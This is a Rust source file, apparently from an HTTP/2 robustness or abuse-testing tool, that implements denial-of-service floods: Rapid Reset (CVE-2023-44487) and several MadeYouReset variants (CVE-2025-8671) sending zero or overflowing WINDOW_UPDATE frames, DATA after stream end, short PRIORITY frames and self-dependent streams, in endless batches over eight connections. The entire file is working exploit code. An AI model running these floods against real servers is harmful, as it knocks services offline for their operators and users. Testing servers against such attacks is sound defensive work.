//! Requests whose answers nobody waits for: the client resets them, or makes the agent reset them.

use std::{io, rc::Rc};

use futures_util::FutureExt as _;
use tokio::io::AsyncWriteExt as _;

use crate::{
    attack::{Abuse, Attacker, Ended, HeldTo, Receives},
    frames::{self, CANCEL, flag, kind},
    link::{Link, both, frames as read_frames},
};

/// Connections: enough to keep the agent busy while one is thrown out.
const CONNECTIONS: u32 = 8;

/// Requests that go out in one write.
const BATCH: u32 = 64;

/// What follows each request.
#[derive(Clone, Copy)]
enum Trick {
    Reset,
    NoIncrement,
    Overflow,
    DataAfterEnd,
    ShortPriority,
    DependsOnItself,
}

const BASE: Abuse = Abuse {
    name: "",
    what: "",
    held_to: HeldTo::Aims,
    connections: CONNECTIONS,
    run: |attacker| requests(attacker, Trick::Reset).boxed_local(),
};

pub const ABUSES: &[Abuse] = &[
    Abuse {
        name: "rapid-reset",
        what: "HTTP/2 requests that are reset at once (CVE-2023-44487), 8 connections.",
        ..BASE
    },
    Abuse {
        name: "made-you-reset-increment",
        what: "HTTP/2 requests, each followed by a WINDOW_UPDATE of 0 for its stream (CVE-2025-8671), 8 connections.",
        run: |attacker| requests(attacker, Trick::NoIncrement).boxed_local(),
        ..BASE
    },
    Abuse {
        name: "made-you-reset-overflow",
        what: "The same with a WINDOW_UPDATE beyond the largest window.",
        run: |attacker| requests(attacker, Trick::Overflow).boxed_local(),
        ..BASE
    },
    Abuse {
        name: "made-you-reset-data",
        what: "The same with DATA after the end of the request.",
        run: |attacker| requests(attacker, Trick::DataAfterEnd).boxed_local(),
        ..BASE
    },
    Abuse {
        name: "made-you-reset-priority",
        what: "The same with a PRIORITY frame of the wrong length.",
        run: |attacker| requests(attacker, Trick::ShortPriority).boxed_local(),
        ..BASE
    },
    Abuse {
        name: "made-you-reset-itself",
        what: "HTTP/2 requests whose stream depends on itself, 8 connections.",
        run: |attacker| requests(attacker, Trick::DependsOnItself).boxed_local(),
        ..BASE
    },
];

async fn requests(attacker: Rc<Attacker>, trick: Trick) -> io::Result<Ended> {
    let Link { read, mut write } = Link::http2(&attacker, Receives::Much, &[]).await?;
    let block = frames::get(&attacker.host, "/");
    let writing = async {
        let mut next = 1;
        loop {
            let mut out = Vec::new();
            for _ in 0..BATCH {
                trick.request(&mut out, next, &block);
                next += 2;
            }
            write.write_all(&out).await?;
            attacker.sent(u64::from(BATCH), out.len());
        }
    };
    both(writing, read_frames(read, Rc::clone(&attacker), |_, _| {})).await
}

impl Trick {
    fn request(self, out: &mut Vec<u8>, stream: u32, block: &[u8]) {
        let end = flag::END_STREAM;
        if matches!(self, Self::DependsOnItself) {
            let mut payload = stream.to_be_bytes().to_vec();
            payload.push(0);
            payload.extend_from_slice(block);
            let flags = end | flag::END_HEADERS | flag::PRIORITY;
            frames::frame(out, kind::HEADERS, flags, stream, &payload);
            return;
        }
        frames::headers(out, end, stream, block);
        match self {
            Self::Reset => frames::frame(out, kind::RST_STREAM, 0, stream, &CANCEL),
            Self::NoIncrement => frames::frame(out, kind::WINDOW_UPDATE, 0, stream, &[0; 4]),
            Self::Overflow => {
                let largest = 0x7fff_ffff_u32.to_be_bytes();
                frames::frame(out, kind::WINDOW_UPDATE, 0, stream, &largest);
            }
            Self::DataAfterEnd => frames::frame(out, kind::DATA, 0, stream, b"x"),
            Self::ShortPriority => frames::frame(out, kind::PRIORITY, 0, stream, &[0; 4]),
            Self::DependsOnItself => {}
        }
    }
}
